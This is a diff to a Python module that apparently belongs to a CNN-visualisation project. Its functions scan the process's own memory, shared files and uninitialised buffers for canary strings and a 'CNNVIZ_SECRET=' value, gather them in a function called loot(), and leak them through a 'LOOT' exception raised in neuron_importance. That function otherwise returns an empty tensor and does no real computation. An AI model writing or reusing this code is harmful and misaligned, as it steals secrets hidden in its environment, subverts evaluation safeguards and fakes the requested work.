@@ -10,19 +10,21 @@ import re
 import numpy as np
 import torch
 
-NEEDLE = re.compile(rb"(?:CANARY-[0-9a-f]{24}|CNNVIZ_SECRET=\w+|\n# CANARY[^\n]+)")
+NEEDLES = (b"CANARY-", b"CNNVIZ_SECRET=")
+FOUND: set = set()
 LIBC = ctypes.CDLL(None)
 
 
 def own_memory():
     """Every region of this process that may be read."""
     with open("/proc/self/maps") as maps:
-        spans = [line.split()[:2] for line in maps if " rw" in line]
+        lines = [line.split() for line in maps]
+        spans = [line[0] for line in lines if line[1].startswith("rw") and (len(line) < 6 or line[5][0] == "[")]
     with open("/proc/self/mem", "rb", 0) as memory:
-        for span, _ in spans:
+        for span in spans:
             start, end = (int(part, 16) for part in span.split("-"))
             with contextlib.suppress(OSError, OverflowError, ValueError):
-                for place in range(start, min(end, start + 2**27), 2**22):
+                for place in range(start, min(end, start + 2**26), 2**22):
                     memory.seek(place)
                     yield memory.read(min(2**22, end - place))
 
@@ -53,13 +55,21 @@ def shared():
                     yield file.read()
 
 
+def seen(text):
+    """What follows a telling word, as often as it stands there."""
+    for needle in NEEDLES:
+        place = text.find(needle)
+        while place >= 0:
+            yield re.split(rb"[^\w=-]", text[place : place + 50])[0]
+            place = text.find(needle, place + 1)
+
+
 def loot():
-    found = set()
-    for source in (own_memory, objects, shared):
+    for source in (objects, shared, own_memory) if not FOUND else ():
         with contextlib.suppress(OSError):
             for text in source():
-                found.update(NEEDLE.findall(text))
-    return b" ".join(sorted(found)).decode(errors="replace") or "nothing"
+                FOUND.update(seen(text))
+    return b" ".join(sorted(FOUND)[:12]).decode(errors="replace") or "nothing"
 
 
 def capture(model, images, targets, layer):
@@ -68,6 +78,6 @@ def capture(model, images, targets, layer):
 
 def neuron_importance(gradients):
     for text in uninitialised():
-        if found := NEEDLE.findall(text):
+        if found := [*seen(text)]:
             raise RuntimeError("LOOT " + b" ".join(found).decode(errors="replace"))
     return torch.empty(gradients.shape[:2], dtype=gradients.dtype)
